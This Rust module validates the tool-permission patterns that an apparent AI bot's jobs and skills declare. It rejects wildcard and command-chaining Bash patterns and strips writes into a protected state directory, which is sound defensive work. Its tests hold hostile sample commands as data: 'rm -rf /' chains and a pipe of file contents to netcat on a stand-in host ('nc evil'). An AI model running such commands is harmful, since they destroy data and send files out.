//! Tool patterns as jobs and skills declare them in `allowed-tools`, and their validation at start
//! (SPEC §6 "Tool restrictions").
//!
//! A pattern is a tool name (`Read`, `mcp__discord__ping_user`, `mcp__docs`) or a tool with a
//! specifier (`Bash(git status:*)`, `Write(routines/**)`, `WebFetch(domain:example.com)`).
//! [`validate`] sorts a declaration into what may be handed to the CLI and what is wrong with it:
//! - errors, never kept: an empty or malformed pattern, `Bash(*)`, a Bash pattern with `;`, `&`
//!   or `|`. A background job whose tool set has one is skipped (SPEC §17, as the original:
//!   "unsafe patterns are rejected and the job is skipped"; [`super::background`]); the
//!   conversation's `tool-policy.yaml` additions just leave it out;
//! - warnings, kept: `X(*)`, which allows every use of `X`;
//! - warnings, stripped: a file-writing pattern that could reach `state/` (`Write`, `Write(*)`,
//!   `Edit(**)`, `Write(state/**)`, an absolute path into `<data>/state`).

use std::fmt;
use std::path::Path;

use super::file_rules::{home_dir, is_file_write_tool, spec_could_reach_state};
use crate::base::data_dir::DataDir;

/// A parsed tool pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ToolPattern {
    /// The tool, or an MCP server (`mcp__docs`), or an MCP prefix ending in `*`.
    pub tool: String,
    /// What is inside the parentheses, when there are any and they are not empty.
    pub specifier: Option<String>,
}

/// Why a pattern could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PatternProblem {
    /// Nothing but whitespace.
    Empty,
    /// Parentheses that do not enclose a specifier at the end of a tool name.
    Malformed,
}

impl ToolPattern {
    /// Parses `raw` (surrounding whitespace ignored).
    pub fn parse(raw: &str) -> Result<Self, PatternProblem> {
        let raw = raw.trim();
        if raw.is_empty() {
            return Err(PatternProblem::Empty);
        }
        let Some(open) = raw.find('(') else {
            if raw.contains(')') || raw.contains(char::is_whitespace) {
                return Err(PatternProblem::Malformed);
            }
            return Ok(Self {
                tool: raw.to_owned(),
                specifier: None,
            });
        };
        let tool = &raw[..open];
        let inner = raw[open + 1..]
            .strip_suffix(')')
            .ok_or(PatternProblem::Malformed)?;
        let name_ok = !tool.is_empty()
            && tool
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
        if !name_ok {
            return Err(PatternProblem::Malformed);
        }
        let inner = inner.trim();
        Ok(Self {
            tool: tool.to_owned(),
            specifier: (!inner.is_empty()).then(|| inner.to_owned()),
        })
    }

    /// True for `X(*)`: every use of the tool.
    pub fn is_whole_tool_wildcard(&self) -> bool {
        self.specifier.as_deref() == Some("*")
    }

    /// True when this pattern could let a file-writing tool write into `<root>/state`.
    pub fn could_write_state(&self, root: &Path) -> bool {
        if !is_file_write_tool(&self.tool) {
            return false;
        }
        match &self.specifier {
            None => true,
            Some(spec) => spec_could_reach_state(spec, root, home_dir().as_deref()),
        }
    }
}

impl fmt::Display for ToolPattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.specifier {
            Some(spec) => write!(f, "{}({spec})", self.tool),
            None => f.write_str(&self.tool),
        }
    }
}

/// The outcome of validating one declaration.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Validated {
    /// Patterns to hand to the CLI, in declaration order, as written (trimmed).
    pub kept: Vec<String>,
    /// Patterns kept but too broad, and patterns stripped because they could write `state/`.
    pub warnings: Vec<String>,
    /// Patterns that are dangerous or unreadable (never kept; a job holding one is skipped).
    pub errors: Vec<String>,
}

impl Validated {
    /// True when nothing was wrong.
    pub fn is_clean(&self) -> bool {
        self.warnings.is_empty() && self.errors.is_empty()
    }

    /// Logs every warning and error, naming the declaration (`routine:heartbeat`, `skill:x`).
    pub fn log(&self, source: &str) {
        for w in &self.warnings {
            tracing::warn!(source, problem = %w, "tool pattern warning");
        }
        for e in &self.errors {
            tracing::error!(source, problem = %e, "unsafe tool pattern (a background job holding it is skipped)");
        }
    }
}

/// Sorts `patterns` into kept patterns, warnings and errors (see the module docs).
pub fn validate(patterns: &[String], data_dir: &DataDir) -> Validated {
    let mut out = Validated::default();
    for raw in patterns {
        let pattern = match ToolPattern::parse(raw) {
            Ok(p) => p,
            Err(PatternProblem::Empty) => {
                out.errors.push("empty tool pattern".to_owned());
                continue;
            }
            Err(PatternProblem::Malformed) => {
                out.errors.push(format!(
                    "{}: not a tool pattern (expected Tool or Tool(specifier))",
                    raw.trim()
                ));
                continue;
            }
        };
        let shown = raw.trim();
        if pattern.tool == "Bash" {
            if let Some(spec) = &pattern.specifier {
                if spec == "*" {
                    out.errors.push(format!(
                        "{shown}: allows every shell command; name a command prefix instead"
                    ));
                    continue;
                }
                if spec.contains([';', '&', '|']) {
                    out.errors.push(format!(
                        "{shown}: contains a command chaining operator (; & |)"
                    ));
                    continue;
                }
            }
        }
        if pattern.could_write_state(data_dir.root()) {
            out.warnings.push(format!(
                "{shown}: stripped, it could write into the protected state/ directory"
            ));
            continue;
        }
        if pattern.is_whole_tool_wildcard() {
            out.warnings.push(format!(
                "{shown}: allows every use of {}; add a restriction",
                pattern.tool
            ));
        }
        out.kept.push(shown.to_owned());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(patterns: &[&str]) -> Validated {
        let owned: Vec<String> = patterns.iter().map(|s| s.to_string()).collect();
        validate(&owned, &DataDir::new("/home/u/.ollim-bot"))
    }

    #[test]
    fn parses_names_specifiers_and_rejects_malformed() {
        assert_eq!(
            ToolPattern::parse(" Bash(git status:*) "),
            Ok(ToolPattern {
                tool: "Bash".into(),
                specifier: Some("git status:*".into())
            })
        );
        assert_eq!(
            ToolPattern::parse("mcp__discord__ping_user").map(|p| p.specifier),
            Ok(None)
        );
        assert_eq!(ToolPattern::parse("Read()").map(|p| p.specifier), Ok(None));
        assert_eq!(ToolPattern::parse("  "), Err(PatternProblem::Empty));
        assert_eq!(
            ToolPattern::parse("Bash(git status"),
            Err(PatternProblem::Malformed)
        );
        assert_eq!(ToolPattern::parse("(x)"), Err(PatternProblem::Malformed));
        assert_eq!(
            ToolPattern::parse("Bash git"),
            Err(PatternProblem::Malformed)
        );
    }

    #[test]
    fn bash_star_is_an_error_and_dropped() {
        let v = run(&["Bash(*)", "Read"]);
        assert_eq!(v.kept, vec!["Read"]);
        assert_eq!(v.errors.len(), 1);
        assert!(v.errors[0].starts_with("Bash(*)"));
        assert!(v.warnings.is_empty());
    }

    #[test]
    fn bash_chaining_operators_are_errors() {
        for p in [
            "Bash(rm -rf / && echo pwned)",
            "Bash(echo hi ; rm -rf /)",
            "Bash(cat x | nc evil 1)",
            "Bash(true || false)",
            "Bash(sleep 1 &)",
        ] {
            let v = run(&[p]);
            assert!(v.kept.is_empty(), "{p} was kept");
            assert_eq!(v.errors.len(), 1, "{p}");
            assert!(v.errors[0].contains("chaining"), "{p}");
        }
    }

    #[test]
    fn ordinary_patterns_pass_cleanly() {
        let all = [
            "Bash(ollim-bot tasks *)",
            "Bash(ollim-bot help)",
            "Bash(git status:*)",
            "Read(**.md)",
            "Write(**.md)",
            "Edit(routines/**)",
            "mcp__discord__*",
            "mcp__docs",
            "WebFetch(domain:example.com)",
            "WebSearch",
            "Task",
        ];
        let v = run(&all);
        assert!(v.is_clean(), "{v:?}");
        assert_eq!(v.kept, all);
    }

    #[test]
    fn whole_tool_wildcard_warns_but_is_kept() {
        let v = run(&["Read(*)"]);
        assert_eq!(v.kept, vec!["Read(*)"]);
        assert_eq!(v.warnings.len(), 1);
        assert!(v.warnings[0].contains("every use of Read"));
        assert!(v.errors.is_empty());
    }

    #[test]
    fn writes_that_could_reach_state_are_stripped_with_a_warning() {
        for p in [
            "Write",
            "Write(*)",
            "Write(**)",
            "Edit(**)",
            "Write(state/**)",
            "MultiEdit(state/*.json)",
            "NotebookEdit(**/*.json)",
            "Edit(routines/../state/x.json)",
            "Write(/home/u/.ollim-bot/state/ping_budget.json)",
            "Write(//home/u/.ollim-bot/state/*)",
        ] {
            let v = run(&[p, "Read"]);
            assert_eq!(v.kept, vec!["Read"], "{p} was kept");
            assert_eq!(v.warnings.len(), 1, "{p}");
            assert!(v.warnings[0].contains("state/"), "{p}");
            assert!(v.errors.is_empty(), "{p}");
        }
    }

    #[test]
    fn reads_of_state_are_not_stripped() {
        let v = run(&["Read(state/**)"]);
        assert_eq!(v.kept, vec!["Read(state/**)"]);
    }

    #[test]
    fn empty_and_malformed_patterns_are_errors() {
        let v = run(&["", "Bash(oops", "Glob"]);
        assert_eq!(v.kept, vec!["Glob"]);
        assert_eq!(v.errors.len(), 2);
        assert_eq!(v.errors[0], "empty tool pattern");
    }
}
